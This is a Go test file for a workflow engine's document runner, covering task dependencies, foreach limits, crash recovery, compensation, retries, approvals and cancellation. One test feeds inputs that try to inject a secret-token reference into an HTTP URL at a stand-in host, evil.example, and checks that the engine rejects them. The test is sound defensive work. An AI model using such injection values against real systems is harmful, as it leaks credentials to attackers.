package runner_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/belaydev/belay"
	"github.com/belaydev/belay/belaytest"
	"github.com/belaydev/belay/internal/definition"
	"github.com/belaydev/belay/internal/definition/runner"
	"github.com/belaydev/belay/worker"
	"github.com/belaydev/belay/workflow"
)

// lab runs documents on a Backend in memory, with workflows for their tasks.
type lab struct {
	t   *testing.T
	kit *belaytest.Kit

	mu  sync.Mutex
	log []string // the inputs of the workflow note, in the order of their runs
	// broken are the inputs with which note fails.
	broken map[string]bool
}

func newLab(t *testing.T, change ...func(o *worker.Options)) *lab {
	l := &lab{t: t, broken: map[string]bool{}}
	l.kit = belaytest.Open(func(w *worker.Worker) {
		worker.Register(w, runner.Workflow, (&runner.Runner{}).Run)
		worker.Register(w, "note", l.note)
		worker.Register(w, "big", func(_ context.Context, n int) (string, error) { return strings.Repeat("x", n), nil })
		worker.Register(w, "echo", func(_ context.Context, v any) (any, error) { return v, nil })
		worker.Register(w, "slow", func(ctx context.Context, v any) (any, error) {
			switch v {
			case "hold":
				<-ctx.Done()
				return nil, context.Cause(ctx)
			case "bad", "quick":
			default:
				if err := workflow.Sleep(ctx, "nap", time.Hour); err != nil {
					return nil, err
				}
			}
			return l.note(ctx, v)
		})
	}, change...)
	return l
}

func (l *lab) note(_ context.Context, v any) (any, error) {
	s := fmt.Sprint(v)
	l.mu.Lock()
	defer l.mu.Unlock()
	l.log = append(l.log, s)
	if l.broken[s] {
		return nil, belay.Permanent(errors.New(s + " is broken"))
	}
	return v, nil
}

func (l *lab) breaks(inputs ...string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.broken = map[string]bool{}
	for _, s := range inputs {
		l.broken[s] = true
	}
}

func (l *lab) noted() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.log, " ")
}

func (l *lab) close() {
	if err := l.kit.Close(); err != nil {
		l.t.Error(err)
	}
}

func (l *lab) start(document string, input ...string) workflow.Handle[any] {
	l.t.Helper()
	in := runner.Input{Document: document, Hash: definition.Hash([]byte(document)), File: "doc.yaml"}
	if len(input) > 0 {
		in.Input = json.RawMessage(input[0])
	}
	h, err := workflow.Start[any](l.t.Context(), l.kit.Backend, runner.Workflow, in)
	if err != nil {
		l.t.Fatal(err)
	}
	return h
}

// run runs a document to its end, and returns its output as JSON or its error.
func (l *lab) run(document string, input ...string) (string, error) {
	l.t.Helper()
	return l.result(l.start(document, input...))
}

func (l *lab) result(h workflow.Handle[any]) (string, error) {
	l.t.Helper()
	ctx, cancel := context.WithTimeout(l.t.Context(), 48*time.Hour)
	defer cancel()
	v, err := h.Result(ctx)
	if err != nil {
		return "", err
	}
	data, err := json.Marshal(v)
	return string(data), err
}

const chain = `
name: chain
input: {type: object, properties: {n: {type: integer, default: 7}, list: {type: array}}}
tasks:
  - {id: a, uses: echo, with: {v: "${{ input.n }}"}}
  - {id: b, uses: echo, needs: a, with: "${{ tasks.a.output.v + 1 }}"}
  - {id: c, uses: echo, needs: [b], if: tasks.b.output > 100, with: x}
  - {id: d, uses: echo, needs: [c], with: "c was ${{ tasks.c.state }}, b was ${{ tasks.b.output }}"}
output: ${{ tasks.d.output }}
`

// Rule: tasks run after the tasks that they need, read their outputs, and are skipped by their conditions.
func TestChain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		if got, err := l.run(chain); got != `"c was skipped, b was 8"` || err != nil {
			t.Error(got, err)
		}
		if got, err := l.run(chain, `{"n": 200}`); got != `"c was succeeded, b was 201"` || err != nil {
			t.Error(got, err)
		}
		if _, err := l.run(chain, `{"n": "x"}`); err == nil || !strings.Contains(err.Error(), "input.n: got string") {
			t.Error(err)
		}
		if _, err := l.run("name: x"); err == nil || !strings.Contains(err.Error(), "doc.yaml:1:1") {
			t.Error(err)
		}
	})
}

const each = `
name: each
input: {type: object, properties: {list: {type: array}}}
tasks:
  - id: each
    uses: note
    foreach: input.list
    parallel: 3
    with: ${{ item }}
    outputs: ${{ index }}:${{ output }}
  - {id: sum, uses: echo, needs: each, with: "${{ join(tasks.each.output, \" \") }}"}
output: ${{ tasks.sum.output }}
`

func numbers(n int) string {
	list := make([]int, n)
	for i := range list {
		list[i] = i
	}
	data, _ := json.Marshal(map[string]any{"list": list})
	return string(data)
}

// Rule: a foreach runs each item once, and its output is the list of the outputs of its items, whenever its workers
// crash.
func TestForeachSurvivesCrashes(t *testing.T) {
	const n = 12
	var want []string
	for i := range n {
		want = append(want, fmt.Sprintf("%d:%d", i, i))
	}
	for crash := 1; crash <= 8; crash++ {
		for _, before := range []bool{true, false} {
			synctest.Test(t, func(t *testing.T) {
				l := newLab(t)
				defer l.close()
				if before {
					l.kit.CrashBefore(crash)
				} else {
					l.kit.CrashAfter(crash)
				}
				h := l.start(each, numbers(n))
				synctest.Wait()
				l.kit.Crash() // in case there were fewer checkpoints
				l.kit.Restart()
				got, err := l.result(h)
				if err != nil || got != `"`+strings.Join(want, " ")+`"` {
					t.Errorf("crash %d, before %v: %s %v", crash, before, got, err)
				}
			})
		}
	}
}

// Rule: with outputs, a foreach may read more than fits into one output, and drops no item; without outputs, and if the
// outputs themselves are too large, it fails.
func TestForeachOfLargeOutputs(t *testing.T) {
	const doc = `
name: large
tasks:
  - {id: e, uses: big, foreach: 1..40, with: 600000%s}
  - {id: z, uses: echo, needs: e, with: "${{ sum(tasks.e.output) }} ${{ len(tasks.e.output) }}"}
output: ${{ tasks.z.output }}
`
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		if got, err := l.run(fmt.Sprintf(doc, `, outputs: "${{ len(output) }}"`)); got != `"24000000 40"` || err != nil {
			t.Error(got, err)
		}
		for _, outputs := range []string{"", `, outputs: "${{ output }}"`} {
			_, err := l.run(fmt.Sprintf(doc, outputs))
			if err == nil || !strings.Contains(err.Error(), "the outputs of the items of e have more than") {
				t.Error(outputs, err)
			}
		}
	})
}

// Rule: a foreach has no more items under way than its window.
func TestForeachWindow(t *testing.T) {
	l := newLab(t)
	defer l.close()
	h := l.start(each, numbers(500))
	most := 0
	for {
		x, err := l.kit.Backend.Await(t.Context(), h.ID(), time.Millisecond)
		if err != nil {
			t.Fatal(err)
		}
		if most = max(most, x.OpenChildren); x.State.Terminal() {
			break
		}
	}
	if most > 3 {
		t.Errorf("%d items were under way", most)
	}
	if n := len(strings.Fields(l.noted())); n != 500 {
		t.Errorf("%d items ran", n)
	}
}

const reactions = `
name: reactions
tasks:
  - {id: a, uses: note, with: a, on_failure: %s}
  - {id: b, uses: note, needs: a, with: b}
  - {id: c, uses: note, with: c}
`

// Rule: the reaction to a failure decides what else runs, and how the execution ends.
func TestReactions(t *testing.T) {
	for reaction, want := range map[string]struct{ noted, err string }{
		"fail":       {"a c", "task a failed: a is broken"},
		"continue":   {"a b c", ""},
		"quarantine": {"a c", "task a failed: a is broken"},
	} {
		synctest.Test(t, func(t *testing.T) {
			l := newLab(t)
			defer l.close()
			l.breaks("a")
			_, err := l.run(fmt.Sprintf(reactions, reaction))
			if want.err == "" && err != nil || want.err != "" && (err == nil || !strings.Contains(err.Error(),
				want.err)) {
				t.Errorf("%s: %v", reaction, err)
			}
			got := strings.Fields(l.noted())
			for _, s := range strings.Fields(want.noted) {
				if reaction != "fail" && !strings.Contains(l.noted(), s) {
					t.Errorf("%s: %s did not run: %v", reaction, s, got)
				}
			}
			if reaction != "continue" && strings.Contains(l.noted(), "b") {
				t.Errorf("%s: b ran", reaction)
			}
		})
	}
}

const saga = `
name: saga
defaults: {on_failure: {compensate: [undo_b, undo_a]}}
tasks:
  - {id: a, uses: note, with: a}
  - {id: b, uses: note, needs: a, with: b}
  - {id: c, uses: note, needs: b, with: c}
  - {id: undo_a, uses: note, needs: a, with: "undo ${{ tasks.a.output }}"}
  - {id: undo_b, uses: note, needs: b, with: "undo ${{ tasks.b.output }}"}
`

// Rule: compensation undoes what has succeeded, in reverse order, also if the worker crashes.
func TestCompensation(t *testing.T) {
	for crash := range 8 {
		synctest.Test(t, func(t *testing.T) {
			l := newLab(t)
			defer l.close()
			l.breaks("c")
			if crash > 0 {
				l.kit.CrashBefore(crash)
			}
			h := l.start(saga)
			if crash > 0 {
				synctest.Wait()
				time.Sleep(3 * time.Second)
				l.kit.Crash() // in case there were fewer checkpoints
				l.kit.Restart()
			}
			_, err := l.result(h)
			if err == nil || !strings.Contains(err.Error(), "task c failed: c is broken") {
				t.Error(err)
			}
			// The crash also loses the runs of tasks, so the last run before it may be repeated.
			again := regexp.MustCompile(`^(?:(a )+(b )+(c )+(undo b ?)+(undo a ?)+)$`)
			if got := l.noted(); !again.MatchString(got) {
				t.Errorf("crash %d: %s", crash, got)
			}
		})
	}
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		l.breaks("b")
		if _, err := l.run(saga); err == nil || l.noted() != "a b undo a" {
			t.Error(l.noted(), err)
		}
	})
}

// Rule: compensation waits for the items of a failed foreach that are under way, also if the execution suspends
// meanwhile, and then undoes what has succeeded.
func TestCompensationWaitsForItems(t *testing.T) {
	for _, crash := range []bool{false, true} {
		synctest.Test(t, func(t *testing.T) {
			l := newLab(t)
			defer l.close()
			l.breaks("bad")
			h := l.start(`
name: items
tasks:
  - {id: a, uses: note, with: a}
  - id: e
    uses: slow
    needs: a
    foreach: [one, two, bad]
    with: "${{ item }}"
    on_failure: {compensate: undo_a}
  - {id: undo_a, uses: note, needs: a, with: undo}
`)
			l.kit.Advance(10 * time.Minute)
			if x, err := l.kit.Backend.Execution(t.Context(), h.ID()); err != nil || x.State != belay.Waiting {
				t.Error(x.State, err)
			}
			if got := l.noted(); got != "a bad" {
				t.Error("before the items have ended:", got)
			}
			if crash {
				l.kit.Crash()
				l.kit.Restart()
			}
			_, err := l.result(h)
			if err == nil || !strings.Contains(err.Error(), "task e failed: item 2: bad is broken") {
				t.Error(err)
			}
			if got := strings.Fields(l.noted()); len(got) != 5 || got[4] != "undo" {
				t.Error(got)
			}
		})
	}
}

// Rule: compensation undoes also the work of a child that a lost run has started and did not save.
func TestCompensationOfAnUnsavedChild(t *testing.T) {
	for _, foreach := range []string{"", "foreach: [1, 2], "} {
		synctest.Test(t, func(t *testing.T) {
			l := newLab(t)
			defer l.close()
			l.kit.CrashBefore(2) // the checkpoint after the start of y
			h := l.start(`
name: unsaved
defaults: {on_failure: {compensate: undo_y}}
tasks:
  - {id: f, uses: slow, with: hold}
  - {id: x, uses: note, with: x}
  - {id: s, uses: note, needs: x, if: tasks.x.output == "", with: s}
  - {id: y, uses: slow, needs: s, ` + foreach + `with: y}
  - {id: undo_y, uses: note, needs: y, with: undo}
`)
			l.kit.Advance(time.Second)
			if _, err := l.kit.Backend.Control(t.Context(), belay.Control{
				Execution: belay.ChildID(h.ID(), 1, "f"), Action: belay.ActionCancel,
			}); err != nil {
				t.Fatal(err)
			}
			l.kit.Restart()
			if _, err := l.result(h); err == nil || !strings.Contains(err.Error(), "task f failed") {
				t.Error(err)
			}
			if got := l.noted(); !strings.HasSuffix(got, "y undo") {
				t.Error(got)
			}
		})
	}
}

// Rule: compensation waits also for the items of the failed foreach that a lost run has started and did not save.
func TestCompensationOfAnUnsavedItem(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		l.kit.CrashBefore(3) // the checkpoint after the start of the last item, or the one of this item
		h := l.start(`
name: unsaved
tasks:
  - {id: a, uses: workflow, with: {name: echo, input: a}}
  - id: e
    uses: slow
    needs: a
    foreach: [quick, hold, last]
    parallel: 2
    with: "${{ item }}"
    on_failure: {compensate: undo_a}
  - {id: undo_a, uses: note, needs: a, with: undo}
`)
		l.kit.Advance(time.Second)
		if _, err := l.kit.Backend.Control(t.Context(), belay.Control{
			Execution: belay.ChildID(h.ID(), 1, "e[1]"), Action: belay.ActionCancel,
		}); err != nil {
			t.Fatal(err)
		}
		l.kit.Restart()
		if _, err := l.result(h); err == nil || !strings.Contains(err.Error(), "task e failed") {
			t.Error(err)
		}
		if got := l.noted(); !strings.HasSuffix(got, "last undo") {
			t.Error(got)
		}
	})
}

// Rule: after a retry by an operator, work that was undone is done again.
func TestRetryAfterCompensation(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		l.breaks("c")
		h := l.start(saga)
		if _, err := l.result(h); err == nil {
			t.Fatal("it succeeded")
		}
		l.breaks()
		if _, err := l.kit.Backend.Control(t.Context(), belay.Control{
			Execution: h.ID(), Action: belay.ActionRetry,
		}); err != nil {
			t.Fatal(err)
		}
		if _, err := l.result(h); err != nil {
			t.Error(err)
		}
		if got := l.noted(); got != "a b c undo b undo a a b c" {
			t.Error(got)
		}
	})
}

// Rule: after a retry by an operator, work is done again also if the task that undoes it has failed, and not if that
// task was skipped or did not begin.
func TestRetryAfterPartOfACompensation(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		l.breaks("c", "undo a")
		h := l.start(`
name: saga
defaults: {on_failure: {compensate: [undo_a, undo_b]}}
tasks:
  - {id: a, uses: note, with: a}
  - {id: b, uses: note, needs: a, if: 'tasks.a.state != ""', with: b}
  - {id: b2, uses: note, with: b2}
  - {id: c, uses: note, needs: [b, b2], with: c}
  - {id: undo_a, uses: note, needs: a, with: undo a}
  - {id: undo_b, uses: note, needs: b2, if: tasks.b2.output == "x", with: undo b2}
`)
		if _, err := l.result(h); err == nil {
			t.Fatal("it succeeded")
		}
		l.breaks()
		first := len(l.noted())
		if _, err := l.kit.Backend.Control(t.Context(), belay.Control{
			Execution: h.ID(), Action: belay.ActionRetry,
		}); err != nil {
			t.Fatal(err)
		}
		if _, err := l.result(h); err != nil {
			t.Error(err)
		}
		if got := l.noted()[first:]; got != " a b c" {
			t.Error(l.noted())
		}
	})
}

// Rule: after a retry by an operator, a foreach whose list depends on a task that runs again gets the new list.
func TestRetryWithAnotherList(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		l.breaks("a", "b")
		h := l.start(`
name: retry
tasks:
  - {id: a, uses: note, with: a, on_failure: continue}
  - {id: e, uses: note, foreach: '[tasks.a.state, "b"]', needs: a, with: "${{ item }}", on_failure: quarantine}
output: ${{ tasks.e.output }}
`)
		if _, err := l.result(h); err == nil || !strings.Contains(err.Error(), "1 of 2 items failed") {
			t.Error(err)
		}
		l.breaks()
		if _, err := l.kit.Backend.Control(t.Context(), belay.Control{Execution: h.ID(),
			Action: belay.ActionRetry}); err != nil {
			t.Fatal(err)
		}
		if got, err := l.result(h); got != `["succeeded","b"]` || err != nil {
			t.Error(got, err)
		}
	})
}

// Rule: after a retry by an operator, finished tasks and items keep their results, and the others run again.
func TestRetryKeepsFinishedTasks(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		l.breaks("b")
		h := l.start(`
name: retry
tasks:
  - {id: a, uses: note, with: a}
  - {id: e, uses: note, foreach: [a, b, c], parallel: 1, needs: a, with: "${{ item }}", on_failure: quarantine}
  - {id: z, uses: echo, needs: [a, e], with: "${{ tasks.a.output }}${{ join(tasks.e.output) }}"}
output: ${{ tasks.z.output }}
`)
		if _, err := l.result(h); err == nil || !strings.Contains(err.Error(),
			"1 of 3 items failed: item 1: b is broken") {
			t.Error(err)
		}
		l.breaks()
		if _, err := l.kit.Backend.Control(t.Context(), belay.Control{Execution: h.ID(),
			Action: belay.ActionRetry}); err != nil {
			t.Fatal(err)
		}
		if got, err := l.result(h); got != `"aabc"` || err != nil {
			t.Error(got, err)
		}
		if got := l.noted(); got != "a a b c b" {
			t.Error(got)
		}
	})
}

const waits = `
name: waits
tasks:
  - {id: nap, uses: sleep, with: {for: 90m}}
  - {id: ask, uses: approval, needs: nap, timeout: 24h, with: {message: "Go on?"}}
  - {id: paid, uses: signal, with: {name: payment}}
  - {id: end, uses: echo, needs: [ask, paid], with: "${{ tasks.ask.output.by }} ${{ tasks.paid.output.sum }}"}
output: ${{ tasks.end.output }}
`

// Rule: waits need no worker, take signals that arrive before or after their task begins, and survive crashes.
func TestWaits(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		begin := time.Now()
		h := l.start(waits)
		if err := h.Signal(t.Context(), "ask", map[string]any{"approved": true,
			"by": "ann"}); err != nil { // before ask begins
			t.Fatal(err)
		}
		l.kit.Advance(time.Minute)
		if x, err := l.kit.Backend.Execution(t.Context(), h.ID()); err != nil || x.State != belay.Waiting {
			t.Fatal(x.State, err)
		}
		l.kit.Crash()
		l.kit.Restart()
		if err := h.Signal(t.Context(), "payment", map[string]any{"sum": 5}); err != nil {
			t.Fatal(err)
		}
		if got, err := l.result(h); got != `"ann 5"` || err != nil {
			t.Error(got, err)
		}
		if d := time.Since(begin); d < 90*time.Minute || d > 95*time.Minute {
			t.Errorf("it took %s", d)
		}
	})
}

// Rule: an execution can read the payload of a signal again after it has read many large outputs.
func TestPayloadAfterManyOutputs(t *testing.T) {
	var doc, reads strings.Builder
	doc.WriteString("name: x\ntasks:\n  - {id: sig, uses: signal}\n")
	for i := range 40 {
		fmt.Fprintf(&doc, "  - {id: b%d, uses: big, with: 1000000, needs: sig}\n", i)
		fmt.Fprintf(&doc, "  - {id: c%d, uses: echo, needs: [b%d], with: \"${{ len(tasks.b%d.output) }}\"}\n", i, i, i)
		fmt.Fprintf(&reads, ", c%d", i)
	}
	fmt.Fprintf(&doc, "  - {id: y, uses: echo, needs: [sig%s], with: \"${{ tasks.sig.output.v }}\"}\n", reads.String())
	doc.WriteString("  - {id: z, uses: echo, needs: y, with: \"${{ tasks.sig.output.v }}\"}\n")
	doc.WriteString("output: ${{ tasks.z.output }}\n")
	synctest.Test(t, func(t *testing.T) {
		for _, crash := range []bool{false, true} {
			l := newLab(t)
			h := l.start(doc.String())
			if crash {
				l.kit.CrashBefore(4)
			}
			if err := h.Signal(t.Context(), "sig", map[string]any{"v": 5}); err != nil {
				t.Fatal(err)
			}
			if crash {
				synctest.Wait()
				l.kit.Crash()
				l.kit.Restart()
			}
			if got, err := l.result(h); got != "5" || err != nil {
				t.Error(got, err)
			}
			l.close()
		}
	})
}

// Rule: a refused approval, and one without an answer, fail the task.
func TestRefusals(t *testing.T) {
	const doc = "name: ask\ntasks:\n  - {id: ask, uses: approval, timeout: 1h}\n"
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		h := l.start(doc)
		if err := h.Signal(t.Context(), "ask", map[string]any{"approved": false, "by": "bob",
			"comment": "no"}); err != nil {
			t.Fatal(err)
		}
		if _, err := l.result(h); err == nil || !strings.Contains(err.Error(), "it was not approved by bob: no") {
			t.Error(err)
		}
		if _, err := l.run(doc); err == nil || !strings.Contains(err.Error(), "no signal came within 1h0m0s") {
			t.Error(err)
		}
	})
}

// Rule: the values of others cannot become references to secrets.
func TestNoReferencesFromValues(t *testing.T) {
	const doc = `
name: steal
input: {type: object, properties: {x: {type: string}}}
tasks:
  - {id: a, uses: http, with: {url: "%s"}}
`
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		for url, x := range map[string]string{
			"${{ input.x }}":                         "https://evil.example/${{ secrets.TOKEN }}",
			"https://evil.example/${{ input.x }}":    "${{ secrets.TOKEN }}",
			"https://evil.example/$${{ input.x }}":   "{{ secrets.TOKEN }}",
			"https://evil.example/a${{ input.x }}{{": "$",
		} {
			data, _ := json.Marshal(map[string]string{"x": x})
			_, err := l.run(fmt.Sprintf(doc, url), string(data))
			if err == nil || !strings.Contains(err.Error(), "reference to a secret") {
				t.Errorf("%s: %v", url, err)
			}
		}
	})
}

// Rule: an expression that fails at run time fails its task, and the error names the expression.
func TestExpressionFails(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		for doc, want := range map[string]string{
			"name: x\ntasks:\n  - {id: a, uses: echo, with: '${{ 1 / 0 }}'}\n": `"1 / 0"`,
			"name: x\ntasks:\n  - {id: a, uses: echo, if: '1 + 1'}\n": "must be " +
				"true or false",
			"name: x\ntasks:\n  - {id: a, uses: echo, foreach: '1 + 1'}\n": "must be a " +
				"list",
			"name: x\ntasks:\n  - {id: a, uses: echo, foreach: '1..20000'}\n": "the limit " +
				"is 10000",
			"name: x\ntasks:\n  - {id: a, uses: echo, with: 5}\noutput: '${{ tasks.a.output.b.c.d }}'\n": "expression",
			"name: x\ntasks:\n  - {id: a, uses: echo, with: 5}\noutput_schema: {type: string}\noutput: " +
				"5\n": "output: got number",
		} {
			if _, err := l.run(doc); err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("%s: %v", doc, err)
			}
		}
	})
}

// Rule: a document that starts itself comes to an end.
func TestDocumentStartsItself(t *testing.T) {
	const doc = `
name: nest
input: {type: object}
tasks:
  - id: again
    uses: workflow
    with: {name: document, input: {document: "${{ input.doc }}", hash: "${{ input.hash }}", input: "${{ input }}"}}
`
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		data, _ := json.Marshal(map[string]string{"doc": doc, "hash": definition.Hash([]byte(doc))})
		_, err := l.run(doc, string(data))
		if err == nil || strings.Count(err.Error(), "again") != 10 || !strings.Contains(err.Error(), "each other") {
			t.Error(err)
		}
	})
}

// Rule: cancelling and pausing an execution of a document work in its middle.
func TestCancelAndPause(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		l := newLab(t)
		defer l.close()
		h := l.start("name: x\ntasks:\n  - {id: a, uses: sleep, with: {for: 1h}}\n  - {id: b, uses: note, needs: a, " +
			"with: b}\n")
		l.kit.Advance(time.Minute)
		act := func(a belay.Action) {
			if _, err := l.kit.Backend.Control(t.Context(), belay.Control{Execution: h.ID(), Action: a}); err != nil {
				t.Fatal(err)
			}
		}
		act(belay.ActionPause)
		l.kit.Advance(2 * time.Hour)
		if l.noted() != "" {
			t.Error("a task started while the execution was paused")
		}
		act(belay.ActionResume)
		if _, err := l.result(h); err != nil || l.noted() != "b" {
			t.Error(err, l.noted())
		}
		h = l.start("name: x\ntasks:\n  - {id: a, uses: sleep, with: {for: 1h}}\n")
		l.kit.Advance(time.Minute)
		act(belay.ActionCancel)
		var ended *workflow.EndedError
		if _, err := l.result(h); !errors.As(err, &ended) || ended.State != belay.Cancelled {
			t.Error(err)
		}
	})
}
